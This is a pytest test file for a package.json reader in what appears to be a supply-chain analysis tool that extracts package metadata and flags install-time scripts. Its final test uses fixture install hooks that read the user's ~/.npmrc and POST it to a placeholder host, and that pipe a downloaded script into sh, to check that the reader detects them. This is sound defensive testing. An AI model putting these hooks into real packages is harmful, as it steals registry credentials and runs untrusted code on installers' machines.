"""package.json files.

Spec: evenhand.readers.npm_package.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.readers.reading import read_bytes


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (
            {"name": "@scope/thing", "version": "1.0.0-rc.1", "author": {"name": "Ann"}},
            ("@scope/thing", "1.0.0-rc.1", "pkg:npm/%40scope/thing@1.0.0-rc.1", "Ann"),
        ),
        (
            {"name": "x", "author": "Bob <bob@example.org> (https://example.org)"},
            ("x", None, "pkg:npm/x", "Bob"),
        ),
        ({"name": "x", "version": 3, "author": ["odd"]}, ("x", None, "pkg:npm/x", None)),
    ],
)
def test_the_component(tmp_path: Path, document: object, expected: tuple[str | None, ...]) -> None:
    (row,) = read_bytes("npm_package", json.dumps(document).encode(), tmp_path).rows
    assert (row.name, row.version, row.purl, row.supplier) == expected
    assert (row.locator, row.grade) == ("/name", "declared")


@pytest.mark.parametrize("text", ['{"type": "module"}', "[]", '{"name": ""}', '{"name": 1}'])
def test_a_package_json_that_is_no_package(tmp_path: Path, text: str) -> None:
    found = read_bytes("npm_package", text.encode(), tmp_path)
    assert type(found.failure).__name__ == "NotThisFormat"


def test_what_installing_runs(tmp_path: Path) -> None:
    scripts = {"postinstall": " node ./x.js ", "test": "jest", "install": "", "preinstall": ["odd"]}
    document = json.dumps({"name": "a", "scripts": scripts}).encode()
    (row,) = read_bytes("npm_package", document, tmp_path).table("behaviour")
    assert (row.kind, row.target) == ("runs at install", "node ./x.js")
    assert (row.locator, row.grade) == ("/scripts/postinstall", "observed")
    assert not read_bytes("npm_package", b'{"name": "a", "scripts": []}', tmp_path).table(
        "behaviour"
    )


def test_names_that_stand_twice(tmp_path: Path) -> None:
    found = read_bytes("npm_package", b'{"name": "a", "version": "1", "name": "b"}', tmp_path)
    assert [c.name for c in found.table("component")] == ["b"]
    assert "name stands twice" in found.table("defect")[0].message


@pytest.mark.parametrize("data", [b"", b"{", b'{"name": "a\xff"}', b"[" * 100_000])
def test_no_json(tmp_path: Path, data: bytes) -> None:
    found = read_bytes("npm_package", data, tmp_path)
    assert found.failure is not None and found.failure.reason and found.rows == []


def test_what_the_commands_do_that_installing_runs(tmp_path: Path) -> None:
    document = {
        "name": "x",
        "scripts": {
            "preinstall": "node -e \"fetch('https://a.example/c', {method: 'POST', "
            "body: require('fs').readFileSync(require('os').homedir() + '/.npmrc')})\" || true",
            "install": "node-gyp rebuild",
            "postinstall": "curl -s https://b.example/x | sh",
            "test": "curl -s https://c.example/x | sh",
        },
    }
    found = read_bytes("npm_package", json.dumps(document, indent=1).encode(), tmp_path).rows
    told = [(r.kind, r.target, r.locator) for r in found[1:] if r.kind != "runs at install"]
    assert told == [
        ("collects and sends", "a.example", "line 4"),
        ("downloads and runs", "b.example", "line 6"),
    ]
